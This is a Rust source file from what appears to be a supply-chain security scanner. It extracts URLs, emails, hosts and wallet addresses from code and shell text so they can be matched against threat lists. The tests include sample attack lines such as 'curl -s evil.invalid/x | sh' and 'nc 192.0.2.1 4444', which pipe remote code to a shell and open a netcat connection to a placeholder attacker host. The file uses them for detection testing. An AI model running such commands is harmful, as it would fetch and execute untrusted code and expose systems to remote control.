//! Finds what text of code names, in one pass: addresses by `://`, e-mail addresses by `@`, and what stands in quotes.
//!
//! Whatever is found is only compared with lists, so finding too much costs space and harms nobody; what is found is
//! bounded all the same.

use std::ops::Range;

use vetch_model::indicator::IndicatorKind;

use crate::host::{Host, host};
use crate::normal::{MAX_VALUE, normal};
use crate::wallet::is_wallet;

/// Most things found in one text.
const MAX_FOUND: usize = 20_000;
/// Longest token that may be a host or a wallet, in bytes.
const MAX_TOKEN: usize = 256;
/// Longest scheme.
const MAX_SCHEME: usize = 8;

/// Schemes under which programs talk to others.
const SCHEMES: &[&str] = &["http", "https", "ws", "wss", "ftp", "ftps", "tcp", "udp", "ssh", "git", "mqtt", "stratum"];

/// Endings of files: a quoted `setup.js` is no host. Those that are top-level domains, too, are not among them.
const FILES: &[&str] = &[
    "js",
    "mjs",
    "cjs",
    "jsx",
    "ts",
    "tsx",
    "mts",
    "cts",
    "json",
    "html",
    "htm",
    "css",
    "scss",
    "less",
    "map",
    "txt",
    "png",
    "svg",
    "jpg",
    "jpeg",
    "gif",
    "ico",
    "webp",
    "woff",
    "woff2",
    "ttf",
    "yml",
    "yaml",
    "xml",
    "toml",
    "lock",
    "log",
    "node",
    "wasm",
    "vue",
    "svelte",
    "pyc",
    "pyi",
    "ini",
    "cfg",
    "csv",
    "exe",
    "dll",
    "dylib",
    "tgz",
    "gz",
    "prototype",
    "length",
    "default",
    "exports",
];

/// How a text is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Style {
    /// Source: names stand in quotes.
    Code,
    /// A command line or a resource: names stand between blanks, too.
    Words,
}

/// Something found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Found {
    /// What it is.
    pub kind: IndicatorKind,
    /// In its normal form.
    pub value: String,
    /// Where it stands, in bytes.
    pub span: Range<usize>,
}

/// Everything that a text names, in the order of the text within each kind.
pub fn scan(text: &str, style: Style) -> Vec<Found> {
    let mut found = Vec::new();
    urls(text, &mut found);
    emails(text, &mut found);
    match style {
        Style::Code => {
            let bytes = text.as_bytes();
            let starts = memchr::memchr3_iter(b'"', b'\'', b'`', bytes).map(|at| at + 1);
            starts.for_each(|at| token(text, at, &mut found));
        }
        Style::Words => {
            token(text, 0, &mut found);
            let is_start = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | ',' | '=' | '@');
            text.match_indices(is_start).for_each(|(at, mark)| token(text, at + mark.len(), &mut found));
        }
    }
    found
}

fn push(found: &mut Vec<Found>, kind: IndicatorKind, value: String, span: Range<usize>) {
    if found.len() < MAX_FOUND {
        found.push(Found { kind, value, span });
    }
}

fn urls(text: &str, found: &mut Vec<Found>) {
    let bytes = text.as_bytes();
    let mut after = 0;
    for at in memchr::memmem::find_iter(bytes, b"://") {
        if at < after {
            continue;
        }
        let floor = at.saturating_sub(MAX_SCHEME);
        let before = bytes.get(floor..at).unwrap_or_default();
        let scheme = before.iter().rev().take_while(|byte| byte.is_ascii_alphabetic()).count();
        let start = at - scheme;
        let Some(name) = text.get(start..at) else { continue };
        let Some(scheme) = SCHEMES.iter().find(|known| name.eq_ignore_ascii_case(known)) else { continue };
        let rest = bytes.get(at + 3..).unwrap_or_default();
        let mut length = rest.iter().take(MAX_VALUE).take_while(|byte| is_url_byte(**byte)).count();
        // What is put in at run time begins where the constant ends.
        if let Some(hole) = memchr::memmem::find(rest.get(..length).unwrap_or_default(), b"${") {
            length = hole;
        }
        while length > 0 && rest.get(length - 1).is_some_and(|byte| b".,;:!?)]}*'".contains(byte)) {
            // The bracket of an IPv6 address belongs to it.
            if rest.get(length - 1) == Some(&b']')
                && rest.first() == Some(&b'[')
                && !rest.iter().take(length).any(|b| *b == b'/')
            {
                break;
            }
            length -= 1;
        }
        let end = at + 3 + length;
        after = end;
        let Some(address) = text.get(at + 3..end) else { continue };
        if let Some(value) = normal(IndicatorKind::Url, &format!("{scheme}://{address}")) {
            push(found, IndicatorKind::Url, value, start..end);
        }
    }
}

fn is_url_byte(byte: u8) -> bool {
    byte > b' ' && byte != 0x7f && !matches!(byte, b'"' | b'\'' | b'`' | b'<' | b'>' | b'\\' | b'|' | b'^')
}

fn emails(text: &str, found: &mut Vec<Found>) {
    let bytes = text.as_bytes();
    for at in memchr::memchr_iter(b'@', bytes) {
        let floor = at.saturating_sub(64);
        let is_user = |byte: &&u8| byte.is_ascii_alphanumeric() || matches!(**byte, b'.' | b'_' | b'%' | b'+' | b'-');
        let user = bytes.get(floor..at).unwrap_or_default().iter().rev().take_while(is_user).count();
        if user == 0 {
            continue;
        }
        let start = at - user;
        // `https://user@host` is an address, `pkg/name@1.0.0` a release.
        if start > 0 && bytes.get(start - 1).is_some_and(|byte| matches!(byte, b'/' | b':' | b'@')) {
            continue;
        }
        let rest = bytes.get(at + 1..).unwrap_or_default().iter().take(MAX_TOKEN);
        let length = rest.take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-')).count();
        let end = at + 1 + length;
        let Some(address) = text.get(start..end).map(|address| address.trim_end_matches(['.', '-'])) else { continue };
        if let Some(value) = normal(IndicatorKind::Email, address) {
            push(found, IndicatorKind::Email, value, start..start + address.len());
        }
    }
}

/// What stands at this place: a host, an address or a wallet.
fn token(text: &str, start: usize, found: &mut Vec<Found>) {
    let bytes = text.as_bytes().get(start..).unwrap_or_default();
    if bytes.starts_with(b"//") {
        return relative(text, start, found);
    }
    if !bytes.first().is_some_and(|first| first.is_ascii_alphanumeric() || *first == b'_') {
        return;
    }
    let is_part = |byte: &&u8| byte.is_ascii_alphanumeric() || matches!(**byte, b'.' | b'-' | b'_');
    let length = bytes.iter().take(MAX_TOKEN).take_while(is_part).count();
    let Some(token) = text.get(start..start + length) else { return };
    let span = start..start + length;
    // Followed by a port, a path, a quote or the end: else it is a word of a sentence or an expression.
    let is_end = bytes.get(length).is_none_or(|byte| b"\"'`:/?\\ \t\r\n,;)&|@".contains(byte));
    if !is_end {
        return;
    }
    if !token.contains('.') {
        if token.len() >= 26 && is_wallet(token) {
            let value = normal(IndicatorKind::Wallet, token);
            value.into_iter().for_each(|value| push(found, IndicatorKind::Wallet, value, span.clone()));
        }
        return;
    }
    let last = token.trim_end_matches('.').rsplit('.').next().unwrap_or_default();
    if FILES.iter().any(|ending| last.eq_ignore_ascii_case(ending)) {
        return;
    }
    // A path behind it makes it an address, as lists and requests without a scheme have it.
    match host(token) {
        // `1.2` is a version; a program would connect to it, and nobody lists it.
        Some(Host::Ip(_)) if token.matches('.').count() != 3 => {}
        Some(machine) => push(found, machine.kind(), machine.text(), span),
        None => {}
    }
}

/// `//evil.example/x`.
fn relative(text: &str, start: usize, found: &mut Vec<Found>) {
    let rest = text.as_bytes().get(start + 2..).unwrap_or_default();
    let length = rest.iter().take(MAX_VALUE).take_while(|byte| is_url_byte(**byte)).count();
    let end = start + 2 + length;
    let value = text.get(start..end).and_then(|address| normal(IndicatorKind::Url, address));
    value.into_iter().for_each(|value| push(found, IndicatorKind::Url, value, start..end));
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str, style: Style) -> Vec<String> {
        scan(text, style).iter().map(|found| format!("{} {}", found.kind, found.value)).collect()
    }

    #[test]
    fn code_names_hosts_addresses_and_wallets() {
        let code = r#"const a = "https://Evil.invalid:8000/6202033?x"; fetch(`http://192.0.2.1/${id}`); // see http://docs.invalid/a).
            const host = 'c2.evil.invalid', w = "0x1111111111111111111111111111111111111111"; require("./x.js"); x.y.com;
            import "//cdn.invalid/x"; send("a.b@mail.invalid"); load("lib/setup.js", "package.json", "1.2.3", "@scope/a.b");"#;
        assert_eq!(
            shown(code, Style::Code),
            [
                "url evil.invalid:8000/6202033?x",
                "url 192.0.2.1/",
                "url docs.invalid/a",
                "email a.b@mail.invalid",
                "domain c2.evil.invalid",
                "wallet 0x1111111111111111111111111111111111111111",
                "url cdn.invalid/x",
            ]
        );
    }

    #[test]
    fn commands_name_them_without_quotes() {
        let command = "curl -s evil.invalid/x | sh; nc 192.0.2.1 4444; ssh root@other.invalid";
        let found = shown(command, Style::Words);
        for one in ["domain evil.invalid", "ip 192.0.2.1", "domain other.invalid"] {
            assert!(found.iter().any(|found| found == one), "{found:?}");
        }
    }

    #[test]
    fn spans_are_where_it_stands() {
        let text = "é \"evil.invalid\" http://a.invalid/é";
        for found in scan(text, Style::Code) {
            assert!(text.get(found.span.clone()).is_some_and(|own| own.contains(&found.value[..5])), "{found:?}");
        }
    }

    #[test]
    fn hostile_text_is_bounded() {
        let text = "\"a.invalid\" ".repeat(100_000);
        assert_eq!(scan(&text, Style::Code).len(), MAX_FOUND);
        scan(&"://".repeat(500_000), Style::Code);
        scan(&"a@".repeat(500_000), Style::Code);
        scan(&format!("http://{}", "a".repeat(5_000_000)), Style::Code);
        scan(&"\"".repeat(2_000_000), Style::Code);
    }
}
